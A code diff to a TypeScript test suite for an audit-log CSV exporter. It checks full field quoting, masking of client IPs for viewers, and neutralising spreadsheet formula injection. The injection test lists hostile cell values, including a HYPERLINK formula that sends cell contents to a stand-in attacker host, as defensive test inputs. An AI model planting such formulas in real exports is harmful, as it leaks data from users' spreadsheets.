@@ -119,7 +119,9 @@ describe("exportAuditCsv", () => {
       })),
     );
 
-  test("the filtered rows as RFC 4180 CSV: quoted where a field holds a comma, quote or newline", async () => {
+  const WHOLE = { clientIp: "whole" } as const;
+
+  test("the filtered rows as RFC 4180 CSV: every field quoted, quotes doubled", async () => {
     const database = await createTestDatabase();
     try {
       const reasons = ['says "urgent", twice', "line one\nline two", "plain", "cr\r"];
@@ -129,19 +131,23 @@ describe("exportAuditCsv", () => {
         database.db,
         { kind: "admin.blocks.lift" },
         ADMIN_AUDIT,
+        WHOLE,
       );
       expect({ rows, truncated }).toEqual({ rows: 4, truncated: false });
       const lines = csv.split("\r\n");
       expect(lines[0]).toBe(
-        "seq,at,chain_id,chain_seq,id,kind,source_app,instance_id,client_ip,request_id,user_id," +
-          "actor,operation,partner,purpose,target,attempt,result,error_code,http_status," +
-          "latency_ms,call_id,reason,prev_hash,hash",
+        '"seq","at","chain_id","chain_seq","id","kind","source_app","instance_id","client_ip",' +
+          '"request_id","user_id","actor","operation","partner","purpose","target","attempt",' +
+          '"result","error_code","http_status","latency_ms","call_id","reason","prev_hash","hash"',
       );
       expect(csv.endsWith("\r\n")).toBe(true);
       expect(csv).toContain(',"says ""urgent"", twice",');
       expect(csv).toContain(',"line one\nline two",');
       expect(csv).toContain(',"cr\r",');
-      expect(csv).toContain(",plain,");
+      expect(csv).toContain(',"plain",');
+      // Numbers quoted too (spreadsheets still read them as numbers); null is the empty field.
+      expect(lines[1]).toMatch(/^"\d+","\d{4}-\d\d-\d\dT[^"]+Z",/);
+      expect(lines[1]).toContain(',"203.0.113.7","req_test","","adm_1","",');
       expect(csv).not.toContain("partner.event");
       const parsed = parseCsv(csv);
       expect(parsed).toHaveLength(5);
@@ -151,12 +157,13 @@ describe("exportAuditCsv", () => {
         database.db,
         { maxRows: 3, userId: "usr_whose", partner: "intercom" },
         ADMIN_AUDIT,
+        WHOLE,
       );
       expect({ rows: capped.rows, truncated: capped.truncated }).toEqual({
         rows: 0,
         truncated: false,
       });
-      const cut = await exportAuditCsv(database.db, { maxRows: 3 }, ADMIN_AUDIT);
+      const cut = await exportAuditCsv(database.db, { maxRows: 3 }, ADMIN_AUDIT, WHOLE);
       expect({ rows: cut.rows, truncated: cut.truncated }).toEqual({ rows: 3, truncated: true });
       // Each export is on the trail: who took it, about whom, whether it was cut; newest first.
       const exports = await listAuditEvents(database.db, { kind: "admin.audit.export" });
@@ -173,31 +180,99 @@ describe("exportAuditCsv", () => {
     }
   });
 
-  test("text a spreadsheet would run as a formula is written as text ('-prefixed, quoted)", async () => {
+  test("a cell a spreadsheet could start anywhere in a field opens as text ('-prefixed)", async () => {
     const database = await createTestDatabase();
     try {
       const reasons = [
+        'ok;=HYPERLINK("x");y',
+        "a,@SUM(1)",
+        "\t=1",
         '=HYPERLINK("https://evil.example/?"&A1,"open")',
         "+1+2",
         "-2+3",
-        "@SUM(A1:A9)",
+        "line\n@cmd",
+        "cr\r-1",
+        'both; "=1" and ;  +2',
         "\tcmd",
         "a = b, not a formula",
+        "-",
       ];
       await appendLifts(database.db, reasons);
-      const { csv } = await exportAuditCsv(database.db, { kind: "admin.blocks.lift" }, ADMIN_AUDIT);
-      expect(csv).toContain(`,"'=HYPERLINK(""https://evil.example/?""&A1,""open"")",`);
-      expect(csv).toContain(`,"'+1+2",`);
-      expect(csv).toContain(`,"'@SUM(A1:A9)",`);
-      const parsed = parseCsv(csv).slice(1);
-      // No field of any row starts a formula; each reason reads back behind its one quote.
-      for (const record of parsed)
-        for (const field of record) expect(field).not.toMatch(/^[=+\-@\t\r]/);
-      expect(parsed.map((record) => record[22])).toEqual(
-        [...reasons].reverse().map((reason) => (/^[=+\-@\t]/.test(reason) ? `'${reason}` : reason)),
+      const { csv } = await exportAuditCsv(
+        database.db,
+        { kind: "admin.blocks.lift" },
+        ADMIN_AUDIT,
+        WHOLE,
       );
-      // Numbers stay numbers.
-      expect(parsed[0]?.[0]).toMatch(/^\d+$/);
+      // The exact bytes of each reason's cell.
+      for (const cell of [
+        `"ok;'=HYPERLINK(""x"");y"`,
+        `"a,'@SUM(1)"`,
+        `"\t'=1"`,
+        `"'=HYPERLINK(""https://evil.example/?""&A1,""open"")"`,
+        `"'+1+2"`,
+        `"'-2+3"`,
+        `"line\n'@cmd"`,
+        `"cr\r'-1"`,
+        `"both;' ""=1"" and ;'  +2"`,
+        `"\tcmd"`,
+        `"a = b, not a formula"`,
+        `"'-"`,
+      ])
+        expect(csv).toContain(`,${cell},`);
+      // Read as RFC 4180 (comma-separated, quotes honoured): each cell is its reason with a `'`
+      // at each place a formula could begin, and starts no formula.
+      const parsed = parseCsv(csv).slice(1);
+      expect(parsed.map((record) => record[22])).toEqual(
+        [...reasons]
+          .reverse()
+          .map((reason) => reason.replace(/(^|[;,\t\r\n])(?=[ "]*[=+\-@])/g, "$1'")),
+      );
+      for (const record of parsed)
+        for (const field of record) expect(field).not.toMatch(/^[=+\-@]/);
+      // Read the worst way: a Russian-locale program splitting on `;`, or one splitting on tabs,
+      // commas or line breaks, with the quotes ignored — no piece starts a formula either.
+      const pieces = csv.split(/[;,\t\r\n]/).map((piece) => piece.replace(/^[ "]+/, ""));
+      expect(pieces.filter((piece) => /^[=+\-@]/.test(piece))).toEqual([]);
+    } finally {
+      await database.close();
+    }
+  });
+
+  test("a viewer's export shows each client address cut to its network", async () => {
+    const database = await createTestDatabase();
+    try {
+      await appendAuditEvents(database.db, [
+        { ...APP_AUDIT, kind: "partner.event", result: "ok" },
+        {
+          ...APP_AUDIT,
+          clientIp: "2001:db8:85a3::8a2e:370:7334",
+          kind: "partner.event",
+          result: "ok",
+        },
+        { ...APP_AUDIT, clientIp: null, kind: "partner.event", result: "ok" },
+      ]);
+      const filter = { kind: "partner.event" } as const;
+      const viewer = await exportAuditCsv(database.db, filter, ADMIN_AUDIT, {
+        clientIp: "network",
+      });
+      expect(parseCsv(viewer.csv).map((record) => record[8])).toEqual([
+        "client_ip",
+        "",
+        "2001:db8:85a3:…",
+        "203.0.x.x",
+      ]);
+      expect(viewer.csv).not.toContain("203.0.113.7");
+      const operator = await exportAuditCsv(database.db, filter, ADMIN_AUDIT, WHOLE);
+      expect(parseCsv(operator.csv).map((record) => record[8])).toEqual([
+        "client_ip",
+        "",
+        "2001:db8:85a3::8a2e:370:7334",
+        "203.0.113.7",
+      ]);
+      // Either way the export is audited, and the chain holds.
+      expect(await listAuditEvents(database.db, { kind: "admin.audit.export" })).toHaveLength(2);
+      expect(await verifyAuditChain(database.db)).toMatchObject({ ok: true, count: 5 });
     } finally {
       await database.close();
     }
